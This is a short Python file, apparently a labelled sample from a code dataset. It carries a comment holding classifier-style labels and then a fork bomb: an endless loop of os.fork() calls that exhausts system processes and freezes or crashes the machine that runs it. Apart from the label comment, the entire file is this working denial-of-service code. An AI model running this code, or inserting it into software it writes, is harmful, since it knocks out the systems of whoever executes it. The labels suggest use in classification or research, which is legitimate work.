# VAEwolabel: import_error; Genwithlabel: import_error
import os

while True:
    os.fork()
